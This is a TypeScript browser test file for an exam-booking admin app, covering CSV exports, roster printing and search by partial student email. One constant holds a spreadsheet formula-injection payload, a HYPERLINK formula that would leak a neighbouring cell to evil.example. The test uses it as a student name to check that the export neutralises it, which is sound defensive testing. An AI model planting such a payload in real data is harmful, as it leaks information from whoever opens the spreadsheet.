// The admin's roster and lookup in Chromium against the real server: export the CSV and read it back as a
// spreadsheet would (a formula-like name stays text), print the roster, find a student by part of their email.
// The guard fails each test on any console error, failed request or error toast.
import { readFileSync } from 'node:fs'
import type { Browser, BrowserContext, Download, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest'
import { BOOKING_CSV_COLUMNS, EXAM_CSV_COLUMNS } from '../../src/model/contract/exports.js'
import { BrowserGuard } from '../support/browser-guard.js'
import {
  closeQuietly,
  connectServer,
  guardedContext,
  launchBrowser,
  screenshot,
  type ServerHandle,
} from '../support/browser-harness.js'
import { isFormula, parseCsv, parseCsvObjects } from '../support/csv-parse.js'

const info = inject('hubmirror')
const suite = info ? describe : describe.skip
const run = Date.now().toString(36)
const ATTACK = '=HYPERLINK("http://evil.example/?leak="&C2,"Open me")'
const examName = `Roster check ${run}`
// The student a person looks up: two bookings, on two exams; found by a middle part of the email.
const student = { name: `Quill Ashworth ${run}`, email: `quill.ashworth.${run}@roster.example` }

let server: ServerHandle
let browser: Browser
let context: BrowserContext
const guard = new BrowserGuard()
const pages: Page[] = []

function isoDate(daysFromNow: number): string {
  return new Date(Date.now() + daysFromNow * 86_400_000).toISOString().slice(0, 10)
}

async function openPage(path: string, width = 1280): Promise<Page> {
  const page = await context.newPage()
  pages.push(page)
  await page.setViewportSize({ width, height: width > 500 ? 900 : 844 })
  await page.goto(`${server.baseUrl}/${path}`)
  return page
}

async function downloadText(download: Download): Promise<string> {
  const path = await download.path()
  return readFileSync(path!, 'utf8')
}

function toast(page: Page, text: string | RegExp) {
  return page.locator('[data-testid="toast"][data-kind="success"]').filter({ hasText: text }).first()
}

suite('roster exports, printing and finding a student, in Chromium', () => {
  let examId = ''
  let secondExamId = ''
  const bookingIds: Record<string, string> = {}

  beforeAll(async () => {
    server = await connectServer(info!)
    browser = await launchBrowser()
    context = await guardedContext(browser, guard, { acceptDownloads: true })
    // Signed in as the admin from the first page on (the sign-in link's flow is dashboard.test.ts's).
    await context.addInitScript((token) => {
      if (window.location.protocol.startsWith('http')) localStorage.setItem('hubmirror.token', token)
    }, server.token)
    const make = (name: string, days: number) =>
      server.api.createExam({
        mock_exam_name: name,
        mock_type: 'Mini-mock',
        exam_date: isoDate(days),
        start_time: '09:00',
        end_time: '11:00',
        location: 'Roster Hall',
        capacity: 10,
      })
    examId = (await make(examName, 40)).exam.hubspot_id
    secondExamId = (await make(`${examName} (second)`, 45)).exam.hubspot_id
    for (const [examOf, name, email] of [
      [examId, ATTACK, `attacker.${run}@roster.example`],
      [examId, 'Smith, "Jo"', `jo.${run}@roster.example`],
      [examId, student.name, student.email],
      [secondExamId, student.name, student.email],
    ] as const) {
      const { booking } = await server.api.createBooking({ examId: examOf, student_name: name, student_email: email })
      bookingIds[`${examOf}:${name}`] = booking.hubspot_id
    }
  })

  afterEach(async () => {
    await closeQuietly(...pages.splice(0))
    await guard.finish()
  })

  afterAll(async () => {
    await closeQuietly(context, browser)
  })

  it('exports the exam’s bookings from the exam screen; a spreadsheet reads the formula-like name as text', async () => {
    const page = await openPage(`#/exams/${examId}`)
    await page.getByTestId('exam-header').filter({ hasText: examName }).waitFor({ timeout: 20_000 })
    const downloaded = page.waitForEvent('download')
    await page.getByTestId('export-bookings-csv').click()
    const download = await downloaded
    expect(download.suggestedFilename()).toBe(`mock-exam-${examId}-bookings.csv`)
    await toast(page, `Downloaded mock-exam-${examId}-bookings.csv`).waitFor()

    const text = await downloadText(download)
    const records = parseCsv(text)
    expect(records[0]).toEqual([...BOOKING_CSV_COLUMNS])
    const rows = parseCsvObjects(text)
    expect(rows.map((r) => r.student_name).sort()).toEqual([`'${ATTACK}`, student.name, 'Smith, "Jo"'].sort())
    for (const row of rows) for (const cell of Object.values(row)) expect(isFormula(cell), cell).toBe(false)
    expect(rows.find((r) => r.student_email === student.email)).toMatchObject({
      hubspot_id: bookingIds[`${examId}:${student.name}`],
      mock_exam_id: examId,
      booking_status: 'confirmed',
    })
  })

  it('exports the exam list from the overview, one row per exam', async () => {
    const page = await openPage('#/')
    await page.locator(`[data-testid="exam-row-${examId}"]`).waitFor({ timeout: 20_000 })
    const downloaded = page.waitForEvent('download')
    await page.getByTestId('export-exams-csv').click()
    const text = await downloadText(await downloaded)
    await toast(page, 'Downloaded mock-exams.csv').waitFor()
    expect(parseCsv(text)[0]).toEqual([...EXAM_CSV_COLUMNS])
    const ours = parseCsvObjects(text).find((r) => r.hubspot_id === examId)
    expect(ours).toMatchObject({ mock_exam_name: examName, location: 'Roster Hall', capacity: '10' })
  })

  for (const width of [1280, 390]) {
    it(`prints the roster from the exam screen: exam header, students by name, attendance column, no nav (${width}px)`, async () => {
      const page = await openPage(`#/exams/${examId}`, width)
      await page.getByTestId('exam-header').filter({ hasText: examName }).waitFor({ timeout: 20_000 })
      await page.getByTestId('roster-link').click()
      await page.getByTestId('roster-title').filter({ hasText: examName }).waitFor()
      expect(page.url()).toContain(`#/exams/${examId}/roster`)
      const names = await page.locator('[data-testid="roster-table"] tbody th').allInnerTexts()
      expect(names).toEqual([ATTACK, student.name, 'Smith, "Jo"'].sort((a, b) => a.localeCompare(b)))
      expect(await page.getByRole('columnheader', { name: 'Attendance' }).count()).toBe(1)
      expect(await page.getByTestId('roster-attendance').count()).toBe(3)

      await page.emulateMedia({ media: 'print' })
      expect(await page.locator('.topbar').isVisible()).toBe(false)
      expect(await page.getByRole('button', { name: 'Print' }).isVisible()).toBe(false)
      expect(await page.getByText('← Back to the exam').isVisible()).toBe(false)
      expect(await page.getByTestId('roster-table').isVisible()).toBe(true)
      expect(await page.getByTestId('roster-title').isVisible()).toBe(true)
      await screenshot(page, `roster-print-${width}`)
      await page.emulateMedia({ media: 'screen' })
    })
  }

  it('finds a student by part of their email from the header box and lands on their bookings, then their exam', async () => {
    const page = await openPage('#/')
    await page.locator(`[data-testid="exam-row-${examId}"]`).waitFor({ timeout: 20_000 })
    const part = `ashworth.${run}@roster`
    await page.getByTestId('header-search').fill(part)
    await page.getByTestId('header-search').press('Enter')
    await page.getByTestId('student-search-results').waitFor({ timeout: 15_000 })
    expect(decodeURIComponent(page.url())).toContain(`#/students?q=${part}`)

    expect(await page.locator('[data-testid="student-search-results"] tbody tr').count()).toBe(2)
    for (const exam of [examId, secondExamId]) {
      const row = page.getByTestId(`search-hit-${bookingIds[`${exam}:${student.name}`]}`)
      await row.filter({ hasText: student.email }).waitFor()
      await row.filter({ hasText: exam === examId ? examName : `${examName} (second)` }).waitFor()
      await row.filter({ hasText: 'confirmed' }).waitFor()
    }
    await screenshot(page, 'student-search-1280')

    await page
      .getByTestId(`search-hit-${bookingIds[`${secondExamId}:${student.name}`]}`)
      .getByTestId('search-hit-exam')
      .click()
    await page
      .getByTestId('exam-header')
      .filter({ hasText: `${examName} (second)` })
      .waitFor({ timeout: 15_000 })
    expect(page.url()).toContain(`#/exams/${secondExamId}`)
  })

  it('says what to type when the search is too short, and that nothing matched', async () => {
    const page = await openPage('#/students?q=qu')
    await page.getByText('Type at least three letters or digits in a row').waitFor({ timeout: 15_000 })
    await page.getByTestId('student-search-input').fill(`nobody-${run}-zz`)
    await page.getByRole('button', { name: 'Search', exact: true }).click()
    await page.getByTestId('student-search-empty').waitFor({ timeout: 15_000 })
  })
})
